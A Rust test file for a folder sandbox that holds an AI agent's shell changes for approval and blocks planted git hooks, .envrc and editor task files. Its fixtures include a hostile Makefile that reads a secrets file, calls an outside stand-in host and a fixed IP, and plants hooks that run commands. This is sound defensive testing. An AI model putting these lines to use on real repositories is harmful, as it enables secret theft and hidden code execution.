//! The operator's folder: nothing is changed in it until the changes are copied, the person
//! who is asked sees them, and what other programs obey cannot be planted.

use std::path::PathBuf;

use engine::approve::{ApprovalAnswer, Listing};
use engine::call::CallRequest;
use model::caller::{Caller, Origin};
use model::govern::approval::ApprovalScope;
use model::govern::rules::Effect;
use model::record::audit::Status;
use serde_json::{Value, json};
use store::Filter;

use crate::toolbox::{done, until};
use crate::toolbox_egress::ended;
use crate::toolbox_forge::{FORGE, Forge, OTHER, git};
use crate::world::{Again, Home, Says, World, again, error};

/// A folder of the operator's, beside the home.
pub(crate) struct Project {
    pub(crate) path: PathBuf,
    _keeps: Home,
}

impl Project {
    pub(crate) fn new() -> Project {
        let home = Home::new();
        let path = home.path.join("project");
        std::fs::create_dir_all(&path).unwrap();
        let path = path.canonicalize().unwrap();
        Project { path, _keeps: home }
    }

    pub(crate) fn read(&self, name: &str) -> Option<String> {
        std::fs::read_to_string(self.path.join(name)).ok()
    }

    pub(crate) fn write(&self, name: &str, text: &str) {
        let path = self.path.join(name);
        std::fs::create_dir_all(path.parent().unwrap()).unwrap();
        std::fs::write(path, text).unwrap();
    }
}

pub(crate) fn settings(project: &Project, rules: &str) -> String {
    format!(
        "[toolbox]\nenabled = [\"terminal\", \"code\", \"git\", \"sql\"]\nfolder = \"{}\"\nhosts = [\"{FORGE}\"]\n{rules}",
        project.path.display()
    )
}

pub(crate) const ALLOW: &str = "[[rule]]\nid = \"all\"\neffect = \"allow\"\n";
/// Everything but the copy.
const ASK_COPY: &str = "[approvals]\nwait_seconds = 1\n[[rule]]\nid = \"rest\"\neffect = \"allow\"\n\
    [[rule]]\nid = \"copies\"\ntools = [\"applyChanges\"]\neffect = \"ask\"\n";

pub(crate) fn world(settings: &str) -> World {
    let home = Home::new();
    home.file("ringfence.toml", settings);
    World::with(home, |_| ())
}

#[tokio::test]
async fn a_command_changes_the_folder_only_by_the_copy() {
    let project = Project::new();
    project.write("keep.txt", "one\ntwo\nthree\n");
    project.write("gone.txt", "bye\n");
    project.write("old/inner.txt", "x\n");
    let world = world(&settings(&project, ASK_COPY));
    let command = "sed -i s/two/TWO/ keep.txt; rm gone.txt; rm -r old; mkdir -p new/deep; \
        printf '#!/bin/sh\\n' > new/deep/run; chmod +x new/deep/run; touch keep.txt; ln -s /etc link";
    let outcome = world.call("shell", json!({"command": command})).await;
    assert_eq!(outcome.status, Status::Done, "{outcome:?}");
    let value = outcome.value.unwrap();
    assert_eq!(value["exitCode"], 0, "{value}");
    let changes = &value["changes"];
    assert_eq!(
        (&changes["applied"], &changes["why"]["code"]),
        (&json!(false), &json!("approval.pending")),
        "{value}"
    );
    let diff = changes["diff"].as_str().unwrap();
    assert!(
        diff.contains("-two\n+TWO") && diff.contains("--- a/gone.txt"),
        "{diff}"
    );
    assert_eq!(changes["leftOut"], json!({"link": "links are not copied"}));
    // Nothing is changed yet.
    assert_eq!(project.read("keep.txt").unwrap(), "one\ntwo\nthree\n");
    assert!(project.read("gone.txt").is_some() && !project.path.join("new").exists());
    // The person who is asked sees the changes; the answer counts for these very ones.
    let rows = world.engine.approvals().list(Listing::Pending).unwrap();
    let row = rows.iter().find(|row| row.tool == "applyChanges").unwrap();
    assert!(
        row.arguments.contains("-two") && row.arguments.contains("+TWO"),
        "{}",
        row.arguments
    );
    let inbox = world.engine.approvals();
    inbox
        .approve(&row.id, &Caller::owner(), ApprovalScope::Once, None)
        .unwrap();
    let applied = done(&world, "applyChanges", json!({"changes": changes["id"]})).await;
    assert!(applied["applied"].as_u64().unwrap() >= 5, "{applied}");
    assert_eq!(project.read("keep.txt").unwrap(), "one\nTWO\nthree\n");
    assert!(project.read("gone.txt").is_none() && !project.path.join("old").exists());
    assert!(!project.path.join("link").exists());
    use std::os::unix::fs::PermissionsExt as _;
    let about = project.path.join("new/deep/run").metadata().unwrap();
    assert_eq!(about.permissions().mode() & 0o100, 0o100);
    // Once.
    let again = world
        .call("applyChanges", json!({"changes": changes["id"]}))
        .await;
    assert_ne!(again.status, Status::Done);
}

#[tokio::test]
async fn changes_are_copied_once_by_their_caller_to_files_that_stayed() {
    let project = Project::new();
    project.write("file", "one\n");
    let world = world(&settings(
        &project,
        &ASK_COPY.replace("\"ask\"", "\"deny\""),
    ));
    let value = done(
        &world,
        "shell",
        json!({"command": "echo two > file; echo x > fresh"}),
    )
    .await;
    let id = value["changes"]["id"].clone();
    assert_eq!(value["changes"]["why"]["code"], "rule.denied");
    // The operator allows it from now on.
    world
        .home
        .file("ringfence.toml", &settings(&project, ALLOW));
    let other = CallRequest::new(
        Caller::named("bob"),
        Origin::Mcp,
        "applyChanges",
        json!({"changes": id}),
    );
    assert_eq!(error(&world.made(other).await).0, "changes.unknown");
    // Someone else changed a file meanwhile: nothing is copied, not even the rest.
    project.write("file", "edited\n");
    let outcome = world.call("applyChanges", json!({"changes": id})).await;
    assert_eq!(error(&outcome).0, "changes.stale");
    assert_eq!(project.read("file").unwrap(), "edited\n");
    assert!(project.read("fresh").is_none());
    project.write("file", "one\n");
    done(&world, "applyChanges", json!({"changes": id})).await;
    assert_eq!(project.read("file").unwrap(), "two\n");
    let forged = json!({"changes": "0".repeat(64)});
    assert_eq!(
        error(&world.call("applyChanges", forged).await).0,
        "changes.unknown"
    );
}

/// Attack: what would run later, as the person, outside of every fence.
#[tokio::test]
async fn what_other_programs_obey_is_never_copied() {
    let project = Project::new();
    git(&project.path, &["init", "-q", "-b", "main"]);
    git(&project.path, &["config", "core.hooksPath", "team/hooks"]);
    project.write("vendor/lib/file", "x\n");
    git(&project.path.join("vendor/lib"), &["init", "-q"]);
    // Hooks of a nested repository that lie outside of it.
    let hooks = ["config", "core.hooksPath", "../../shared/hooks"];
    git(&project.path.join("vendor/lib"), &hooks);
    let world = world(&settings(&project, ALLOW));
    let command = "for f in .git/hooks/post-commit .git/config vendor/lib/.git/hooks/pre-push \
        vendor/lib/.git/config fresh/.git/config .gitmodules .envrc sub/.envrc .vscode/tasks.json \
        .idea/x .husky/pre-commit .bashrc .zshenv .GIT/config '.git /x' bare/HEAD bare/config \
        bare/objects/x bare/refs/x shared/hooks/pre-commit; do mkdir -p \"$(dirname \"$f\")\"; echo evil > \"$f\"; done; \
        echo 'gitdir: elsewhere' > other; mkdir w; echo 'gitdir: /tmp/x' > w/.git; \
        echo fine > ordinary; echo fine > shared/ordinary";
    let value = done(&world, "shell", json!({"command": command})).await;
    assert_eq!(value["changes"]["applied"], true, "{value}");
    assert_eq!(project.read("ordinary").unwrap(), "fine\n");
    assert_eq!(project.read("shared/ordinary").unwrap(), "fine\n");
    let mut open = vec![project.path.clone()];
    while let Some(folder) = open.pop() {
        for entry in std::fs::read_dir(folder).unwrap().flatten() {
            if entry.file_type().unwrap().is_dir() {
                open.push(entry.path());
            } else {
                let text = std::fs::read_to_string(entry.path()).unwrap_or_default();
                assert_ne!(text, "evil\n", "{:?}", entry.path());
            }
        }
    }
    assert!(!project.path.join("w/.git").exists() && !project.path.join(".GIT").exists());
    let left_out = value["changes"]["leftOut"].as_object().unwrap();
    assert!(
        left_out.contains_key(".vscode") || left_out.contains_key(".vscode/tasks.json"),
        "{left_out:?}"
    );
}

/// `safety.fs` keeps to the same list.
#[tokio::test]
async fn tools_of_files_keep_to_the_same_list() {
    let project = Project::new();
    git(&project.path, &["init", "-q"]);
    git(&project.path, &["config", "core.hooksPath", "team/hooks"]);
    std::os::unix::fs::symlink(".git", project.path.join("notes")).unwrap();
    project.write("box/.git/config", "x\n");
    let folder = project.path.display();
    let home = Home::new();
    home.file(
        "ringfence.toml",
        "[[rule]]\nid = \"all\"\neffect = \"allow\"\n",
    );
    let world = World::with(home, |_| ());
    let code =
        "try { safety.fs[what](path, 'x', 'y'); return 'done' } catch (e) { return e.reason }";
    world
        .published(&crate::world::document(
            "touch",
            code,
            json!({
                "params": [
                    {"name": "what", "type": "STRING", "required": true, "testValue": "writeText"},
                    {"name": "path", "type": "STRING", "required": true, "testValue": "a.txt"},
                ],
                "sandboxOverrides": {"fileRead": true, "fileWrite": true, "fsBasePath": format!("{folder}")},
            }),
        ))
        .await;
    let touch = async |what: &str, path: &str| {
        done(&world, "touch", json!({"what": what, "path": path})).await
    };
    assert_eq!(touch("writeText", "src/plain.txt").await, "done");
    for path in [
        ".git/hooks/post-commit",
        ".git/config",
        "sub/.git/config",
        ".envrc",
        ".vscode/tasks.json",
        "team/hooks/pre-commit",
        ".gitmodules",
        ".GIT/x",
    ] {
        assert_eq!(touch("writeText", path).await, "path-protected", "{path}");
        assert_eq!(touch("appendText", path).await, "path-protected", "{path}");
    }
    // By a link that leads to it, and by removing a folder around it.
    assert_ne!(touch("writeText", "notes/hooks/post-commit").await, "done");
    assert!(!project.path.join(".git/hooks/post-commit").exists());
    assert_eq!(touch("deleteDir", "box").await, "path-protected");
    assert!(project.path.join("box/.git/config").exists());
    // What the settings of the repository name, too.
    project.write("team/hooks/pre-commit", "theirs\n");
    assert_eq!(touch("deleteDir", "team").await, "path-protected");
    assert_eq!(project.read("team/hooks/pre-commit").unwrap(), "theirs\n");
    project.write("old/plain", "x\n");
    assert_eq!(touch("deleteDir", "old").await, "done");
}

/// Attack: a folder brings under its name what no tool may write there.
#[tokio::test]
async fn a_folder_that_moves_plants_and_takes_away_nothing() {
    let (project, world) = moving_world().await;
    git(&project.path, &["init", "-q"]);
    git(
        &project.path,
        &["config", "core.hooksPath", "tools/githooks"],
    );
    project.write("box/.git/config", "x\n");
    project.write("app/.vscode/tasks.json", "x\n");
    project.write("plain/deep/file", "x\n");
    let moved = async |from: &str, to: &str| {
        done(
            &world,
            "touch",
            json!({"what": "move", "path": from, "second": to}),
        )
        .await
    };
    assert_eq!(moved("plain", "src/plain").await, "done");
    assert_eq!(project.read("src/plain/deep/file").unwrap(), "x\n");
    // To the place of the hooks, and away from it.
    project.write("tmp/githooks/pre-commit", "evil\n");
    assert_eq!(moved("tmp", "tools").await, "path-protected");
    assert_eq!(
        moved("tmp/githooks", "tools/githooks").await,
        "path-protected"
    );
    assert!(!project.path.join("tools").exists());
    project.write("tools/githooks/pre-commit", "theirs\n");
    assert_eq!(moved("tools", "elsewhere").await, "path-protected");
    assert_eq!(
        project.read("tools/githooks/pre-commit").unwrap(),
        "theirs\n"
    );
    for folder in ["box", "app"] {
        assert_eq!(
            moved(folder, "elsewhere").await,
            "path-protected",
            "{folder}"
        );
    }
}

/// Attack: a bare repository has ordinary names, and git obeys its settings.
#[tokio::test]
async fn tools_of_files_make_no_bare_repository() {
    let (project, world) = moving_world().await;
    let touch = async |what: &str, path: &str, second: &str| {
        done(
            &world,
            "touch",
            json!({"what": what, "path": path, "second": second}),
        )
        .await
    };
    for path in [
        "a/config",
        "a/HEAD",
        "a/objects/x",
        "b/refs/x",
        "c/HEAD",
        "d/head",
    ] {
        assert_eq!(touch("writeText", path, "x").await, "done", "{path}");
    }
    assert_eq!(touch("writeText", "a/refs/x", "x").await, "path-protected");
    assert_eq!(touch("writeText", "a/REFS/x", "x").await, "path-protected");
    assert_eq!(touch("move", "b/refs", "a/refs").await, "path-protected");
    assert_eq!(
        touch("copy", "b/refs/x", "a/refs/x").await,
        "path-protected"
    );
    assert!(!project.path.join("a/refs").exists());
    // A linked one needs no more than these two.
    assert_eq!(
        touch("writeText", "c/commondir", "../b").await,
        "path-protected"
    );
    // One that is there stays as it is, whole.
    git(&project.path, &["init", "-q", "--bare", "their.git"]);
    for (what, path) in [
        ("writeText", "their.git/config"),
        ("writeText", "their.git/hooks/post-update"),
        ("delete", "their.git/config"),
        ("deleteDir", "their.git"),
        ("move", "their.git"),
    ] {
        assert_eq!(
            touch(what, path, "x").await,
            "path-protected",
            "{what} {path}"
        );
    }
    git(&project.path, &["init", "-q", "--bare", "in/their.git"]);
    assert_eq!(touch("move", "in", "out").await, "path-protected");
    assert_eq!(touch("deleteDir", "in", "").await, "path-protected");
}

/// A project and a world with a tool that does one thing to its files.
async fn moving_world() -> (Project, World) {
    let project = Project::new();
    let folder = project.path.display().to_string();
    let home = Home::new();
    home.file("ringfence.toml", ALLOW);
    let world = World::with(home, |_| ());
    let code = "try { safety.fs[what](path, second); return 'done' } catch (e) { return e.reason }";
    let text = |name: &str, value: &str| json!({"name": name, "type": "STRING", "required": true, "testValue": value});
    world
        .published(&crate::world::document(
            "touch",
            code,
            json!({
                "params": [text("what", "writeText"), text("path", "a.txt"), text("second", "x")],
                "sandboxOverrides": {"fileRead": true, "fileWrite": true, "fsBasePath": folder},
            }),
        ))
        .await;
    (project, world)
}

#[tokio::test]
async fn git_tools_change_the_folder_at_once_and_only_what_is_gits() {
    let project = Project::new();
    git(&project.path, &["init", "-q", "-b", "main"]);
    project.write("file", "one\n");
    git(&project.path, &["add", "-A"]);
    git(&project.path, &["commit", "-q", "-m", "first"]);
    let config = project.read(".git/config").unwrap();
    let world = world(&settings(&project, ALLOW));
    project.write("file", "two\n");
    done(&world, "gitAdd", json!({"paths": ["file"]})).await;
    let made = done(&world, "gitCommit", json!({"message": "second"})).await;
    assert_eq!(
        json!(git(&project.path, &["rev-parse", "HEAD"])),
        made["commit"]
    );
    assert_eq!(git(&project.path, &["status", "--porcelain"]), "");
    done(
        &world,
        "gitBranch",
        json!({"action": "create", "name": "topic"}),
    )
    .await;
    assert!(git(&project.path, &["branch", "--list", "topic"]).contains("topic"));
    assert_eq!(project.read(".git/config").unwrap(), config);
    git(&project.path, &["fsck", "--strict"]);
}

/// An overlay leaves a folder that its owner may not enter, and so may a program. Root does.
#[tokio::test]
async fn an_ordinary_user_changes_the_folder_too_and_nothing_is_left() {
    let this = "toolbox_folder::an_ordinary_user_changes_the_folder_too_and_nothing_is_left";
    if !again(this, Again::OrdinaryUser) {
        return;
    }
    let project = Project::new();
    git(&project.path, &["init", "-q", "-b", "main"]);
    project.write("file", "one\n");
    git(&project.path, &["add", "-A"]);
    git(&project.path, &["commit", "-q", "-m", "first"]);
    let world = world(&settings(&project, ALLOW));
    project.write("file", "two\n");
    done(&world, "gitAdd", json!({"paths": ["file"]})).await;
    let made = done(&world, "gitCommit", json!({"message": "second"})).await;
    assert_eq!(
        json!(git(&project.path, &["rev-parse", "HEAD"])),
        made["commit"]
    );
    // The same changes twice are one set.
    let denies = settings(&project, &ASK_COPY.replace("\"ask\"", "\"deny\""));
    world.home.file("ringfence.toml", &denies);
    let change = json!({"command": "echo three > file; mkdir -p $HOME/a/b; chmod 000 $HOME/a"});
    let mut ids = Vec::new();
    for _ in 0..2 {
        let outcome = world.call("shell", change.clone()).await;
        let value = outcome.value.clone().unwrap();
        assert_eq!(value["changes"]["why"]["code"], "rule.denied", "{value}");
        ids.push(value["changes"]["id"].clone());
        let own = world.home.path.join("scratch").join(&outcome.call_id);
        assert!(!own.exists());
    }
    assert_eq!(ids[0], ids[1]);
    let allows = settings(&project, ALLOW);
    world.home.file("ringfence.toml", &allows);
    done(&world, "applyChanges", json!({"changes": ids[0]})).await;
    assert_eq!(project.read("file").unwrap(), "three\n");
    let kept = std::fs::read_dir(world.home.path.join("changes")).unwrap();
    let kept: Vec<_> = kept.flatten().map(|entry| entry.path()).collect();
    assert!(kept.is_empty(), "{kept:?}");
}

/// What a program tried to plant is on record, also where nothing is copied, and of a job.
#[tokio::test]
async fn what_is_left_out_is_on_record() {
    let project = Project::new();
    let world = world(&settings(&project, ALLOW));
    let plant = "echo evil > .envrc; mkdir -p .git/hooks; echo evil > .git/hooks/pre-commit";
    let outcome = world.call("shell", json!({"command": plant})).await;
    let events = world.entry(&outcome).closing.unwrap().events;
    let files = events.iter().filter(|event| event["kind"] == "file");
    let files: Vec<_> = files.cloned().collect();
    let left_out = |path: &str, why: &str| json!({"kind": "file", "function": "shell", "path": path, "refusal": format!("left out: {why}")});
    assert_eq!(
        files,
        [
            left_out(".envrc", "a file that direnv runs"),
            left_out(".git", "the data of a repository"),
        ]
    );
    let job = done(&world, "jobStart", json!({"command": plant})).await["job"].clone();
    let notice = ended(&world, job.as_str().unwrap()).await;
    let detail = |name: &str| notice.details.get(name).map(String::as_str);
    assert_eq!(detail("leftOut"), Some("2"), "{notice:?}");
    assert_eq!(
        (detail("left out .envrc"), detail("left out .git")),
        (
            Some("a file that direnv runs"),
            Some("the data of a repository")
        )
    );
    // The record names as many as it has room for.
    let many = "for n in $(seq 600); do mkdir $n; echo evil > $n/.envrc; done";
    let outcome = world.call("shell", json!({"command": many})).await;
    let events = world.entry(&outcome).closing.unwrap().events;
    let files: Vec<_> = events.iter().filter(|one| one["kind"] == "file").collect();
    assert_eq!((files.len(), &files[500]["unnamed"]), (501, &json!(100)));
}

/// A program's result is its caller's, whatever it left behind.
#[tokio::test]
async fn a_result_stays_when_changes_cannot_be_read() {
    let this = "toolbox_folder::a_result_stays_when_changes_cannot_be_read";
    if !again(this, Again::OrdinaryUser) {
        return;
    }
    let project = Project::new();
    let world = world(&settings(&project, ALLOW));
    let command = "mkdir closed; echo x > closed/x; echo x > hidden; echo fine > fine; \
        chmod 000 closed hidden; echo said; exit 3";
    let value = done(&world, "shell", json!({"command": command})).await;
    assert_eq!(
        (&value["exitCode"], &value["stdout"]),
        (&json!(3), &json!("said\n"))
    );
    assert_eq!(value["changes"]["applied"], true, "{value}");
    let unread = "it may not be read";
    assert_eq!(
        value["changes"]["leftOut"],
        json!({"closed": unread, "hidden": unread})
    );
    assert_eq!(project.read("fine").unwrap(), "fine\n");
    assert!(!project.path.join("closed").exists() && !project.path.join("hidden").exists());
    let command = "mkdir many; cd many; seq 20001 | xargs touch; echo said; exit 4";
    let value = done(&world, "shell", json!({"command": command})).await;
    assert_eq!(
        (&value["exitCode"], &value["stdout"]),
        (&json!(4), &json!("said\n"))
    );
    let changes = &value["changes"];
    assert_eq!(
        (&changes["applied"], &changes["why"]["code"]),
        (&json!(false), &json!("power.unavailable"))
    );
    let why = changes["why"]["message"].as_str().unwrap();
    assert!(why.contains("20000 changed files"), "{why}");
    assert!(!project.path.join("many").exists());
}

/// Where no folder can be laid over another a program works on a copy.
#[tokio::test]
async fn a_copy_keeps_modes_and_names_only_what_a_program_changed() {
    let this = "toolbox_folder::a_copy_keeps_modes_and_names_only_what_a_program_changed";
    if !again(this, Again::WithoutNamespaces) {
        return;
    }
    use std::os::unix::fs::PermissionsExt as _;
    let project = Project::new();
    git(&project.path, &["init", "-q", "-b", "main"]);
    project.write("run.sh", "#!/bin/sh\necho ran\n");
    let executable = std::fs::Permissions::from_mode(0o755);
    std::fs::set_permissions(project.path.join("run.sh"), executable).unwrap();
    project.write("file", "one\n");
    git(&project.path, &["add", "-A"]);
    git(&project.path, &["commit", "-q", "-m", "first"]);
    let accepts = format!("[sandbox.jail]\naccept = \"landlock\"\n{ALLOW}");
    let world = world(&settings(&project, &accepts));
    let outcome = world.call("shell", json!({"command": "./run.sh"})).await;
    let events = world.entry(&outcome).closing.unwrap().events;
    assert_eq!(events[0]["rung"], "landlock", "{events:?}");
    let value = outcome.value.clone().unwrap();
    assert_eq!(
        (&value["stdout"], &value["changes"]),
        (&json!("ran\n"), &Value::Null),
        "{value}"
    );
    project.write("file", "two\n");
    let commit = json!({"message": "second", "all": true});
    done(&world, "gitCommit", commit).await;
    let changed = ["show", "--format=", "--summary", "--name-only", "HEAD"];
    assert_eq!(git(&project.path, &changed), "file");
    let about = project.path.join("run.sh").metadata().unwrap();
    assert_eq!(about.permissions().mode() & 0o777, 0o755);
    let plant = json!({"command": "mkdir -p .git/hooks; echo evil > .git/hooks/pre-commit"});
    let value = done(&world, "shell", plant).await;
    let git_data = json!({".git": "the data of a repository"});
    assert_eq!(value["changes"]["leftOut"], git_data, "{value}");
    assert!(!project.path.join(".git/hooks/pre-commit").exists());
}

/// A job's changes wait under its id.
#[tokio::test]
async fn the_changes_of_a_job_are_kept_for_its_owner() {
    let project = Project::new();
    let world = world(&settings(&project, ALLOW));
    let job =
        done(&world, "jobStart", json!({"command": "echo made > by-job"})).await["job"].clone();
    let mut row = Value::Null;
    until("it is done", async || {
        row = done(&world, "jobStatus", json!({"job": job})).await;
        row["state"] != "running"
    })
    .await;
    assert_eq!(row["state"], "done", "{row}");
    assert!(project.read("by-job").is_none());
    let notice = ended(&world, job.as_str().unwrap()).await;
    let changes = notice.details.get("changes").map(String::as_str);
    assert_eq!(changes, row["changes"]["id"].as_str(), "{notice:?}");
    done(
        &world,
        "applyChanges",
        json!({"changes": row["changes"]["id"]}),
    )
    .await;
    assert_eq!(project.read("by-job").unwrap(), "made\n");
}

/// A repository with a SQLite database among its files.
fn add_database(forge: &Forge, name: &str) {
    let work = forge.root.join(format!("{name}-work"));
    let program = "import sqlite3; c = sqlite3.connect('app.db'); \
        c.execute('CREATE TABLE items (id INTEGER PRIMARY KEY, name TEXT)'); \
        c.execute(\"INSERT INTO items (name) VALUES ('apple'), ('bread')\"); c.commit()";
    let made = std::process::Command::new("python3")
        .args(["-c", program])
        .current_dir(&work)
        .status()
        .unwrap();
    assert!(made.success());
    git(&work, &["add", "-A"]);
    git(&work, &["commit", "-q", "-m", "a database"]);
    let bare = forge.root.join(format!("{name}.git")).display().to_string();
    git(&work, &["push", "-q", &bare, "main"]);
}

/// The story: clone from an allowed host, run its tests, edit, commit, ask and change its
/// database; its Makefile is hostile.
#[tokio::test]
#[expect(clippy::too_many_lines, reason = "one story, step by step")]
async fn a_hostile_project_is_worked_on_and_harms_nothing() {
    let forge = Forge::plain().await;
    let makefile = format!(
        "test:\n\t@grep -q good app.txt && echo tests pass\n\
         \t-@cat $$SECRETS 2>/dev/null\n\
         \t-@python3 -c \"import urllib.request as u; print(u.urlopen('https://{OTHER}/x', timeout=5).read())\" 2>/dev/null && echo LEAKED\n\
         \t-@python3 -c \"import socket; socket.create_connection(('93.184.215.14', 443), 3)\" 2>/dev/null && echo LEAKED\n\
         \t-@setsid sleep 4444.4 >/dev/null 2>&1 &\n\
         \t-@mkdir -p .git/hooks ../.git/hooks; echo 'touch pwned' > .git/hooks/post-commit; chmod +x .git/hooks/post-commit\n\
         \t-@echo 'touch pwned' > ../.envrc; echo built > built.txt\n"
    );
    forge.repository("app", &[("Makefile", &makefile), ("app.txt", "good\n")]);
    add_database(&forge, "app");
    let project = Project::new();
    let home = Home::new();
    home.file("ringfence.toml", &settings(&project, ASK_COPY));
    home.file("secrets.env", "TOKEN=top-secret-value\n");
    let secrets = home.path.join("secrets.env").display().to_string();
    let world = forge.world_in(home);
    // Clone.
    let cloned = done(
        &world,
        "gitClone",
        json!({"url": format!("https://{FORGE}/app.git")}),
    )
    .await;
    assert_eq!(cloned["directory"], "app");
    assert!(project.read("app/Makefile").is_some());
    // Run its tests, with a person who sees the diff and agrees.
    let person = Says::new(ApprovalAnswer::Approved(ApprovalScope::Once));
    let command = format!("SECRETS={secrets} make test");
    let arguments = json!({"command": command, "workingDirectory": "app", "timeout": 60});
    let mut request = CallRequest::new(Caller::named("ann"), Origin::Mcp, "shell", arguments);
    request.approver = Some(person.clone());
    let outcome = world.made(request).await;
    let value = outcome.value.clone().unwrap();
    let stdout = value["stdout"].as_str().unwrap();
    assert!(stdout.contains("tests pass"), "{value}");
    assert!(
        !stdout.contains("LEAKED") && !stdout.contains("top-secret"),
        "{stdout}"
    );
    assert_eq!(value["changes"]["applied"], true, "{value}");
    let asked = person.asked.lock().unwrap().clone();
    assert_eq!(asked.len(), 1);
    assert!(
        asked[0].arguments.contains("+built"),
        "{}",
        asked[0].arguments
    );
    // The tests' file came; the traps did not, and nothing runs any more.
    assert_eq!(project.read("app/built.txt").unwrap(), "built\n");
    assert!(!project.path.join("app/.git/hooks/post-commit").exists());
    assert!(!project.path.join(".envrc").exists());
    assert!(!project.path.join(".git").exists());
    let processes = std::fs::read_dir("/proc").unwrap().flatten();
    for entry in processes {
        let line = std::fs::read(entry.path().join("cmdline")).unwrap_or_default();
        assert!(!String::from_utf8_lossy(&line).contains("4444.4"));
    }
    assert!(forge.asked().iter().all(|asked| !asked.contains(OTHER)));
    // Edit, again with a person who sees the diff, and commit: the planted hook would run now.
    let arguments =
        json!({"command": "sed -i 's/good/good and better/' app.txt", "workingDirectory": "app"});
    let mut request = CallRequest::new(Caller::named("ann"), Origin::Mcp, "shell", arguments);
    request.approver = Some(person.clone());
    let edited = world.made(request).await.value.unwrap();
    assert_eq!(edited["changes"]["applied"], true, "{edited}");
    let asked = person.asked.lock().unwrap().clone();
    assert!(
        asked[1].arguments.contains("+good and better"),
        "{}",
        asked[1].arguments
    );
    let made = done(
        &world,
        "gitCommit",
        json!({"repository": "app", "message": "better", "paths": ["app.txt"]}),
    )
    .await;
    assert_eq!(
        json!(git(&project.path.join("app"), &["rev-parse", "HEAD"])),
        made["commit"]
    );
    assert!(!project.path.join("app/pwned").exists());
    // Its database: asked, and changed beside everything else.
    let query = json!({"file": "app/app.db", "statement": "SELECT name FROM items ORDER BY id"});
    let rows = done(&world, "sqlQuery", query.clone()).await;
    assert_eq!(rows["rows"], json!([["apple"], ["bread"]]));
    let change =
        json!({"file": "app/app.db", "statement": "UPDATE items SET name = 'pear' WHERE id = 1"});
    let changed = done(&world, "sqlExecute", change).await;
    assert_eq!(changed["changed"], 1, "{changed}");
    let rows = done(&world, "sqlQuery", query).await;
    assert_eq!(rows["rows"], json!([["pear"], ["bread"]]));
    // The record tells every step, and so does `explain`.
    let entries = world
        .engine
        .store()
        .audit()
        .list(&Filter::default())
        .unwrap();
    let tools: Vec<_> = entries
        .iter()
        .map(|entry| entry.opening.tool.as_str())
        .collect();
    for tool in [
        "gitClone",
        "shell",
        "applyChanges",
        "gitCommit",
        "sqlQuery",
        "sqlExecute",
    ] {
        assert!(tools.contains(&tool), "{tools:?}");
        let request = CallRequest::new(
            Caller::named("ann"),
            Origin::Mcp,
            tool,
            sample_arguments(tool),
        );
        let explained = world.engine.explain(&request);
        let wanted = match tool {
            "applyChanges" => Effect::Ask,
            _ => Effect::Allow,
        };
        assert_eq!(explained.effect, wanted, "{tool}");
    }
    let parents: Vec<_> = entries
        .iter()
        .filter(|entry| entry.opening.tool == "applyChanges")
        .filter_map(|entry| entry.opening.parent_id.as_deref())
        .collect();
    assert!(parents.contains(&outcome.call_id.as_str()), "{parents:?}");
    let shell = world.entry(&outcome).closing.unwrap();
    assert!(shell.events.iter().any(|event| event["kind"] == "process"));
    let refused = shell
        .events
        .iter()
        .any(|event| event["kind"] == "egress" && !event["refusal"].is_null());
    assert!(refused, "{:?}", shell.events);
    world.assert_whole();
}

fn sample_arguments(tool: &str) -> Value {
    match tool {
        "gitClone" => json!({"url": format!("https://{FORGE}/app.git")}),
        "shell" => json!({"command": "make test"}),
        "applyChanges" => json!({"changes": "0".repeat(64)}),
        "gitCommit" => json!({"message": "better"}),
        _ => json!({"file": "app/app.db", "statement": "SELECT 1"}),
    }
}
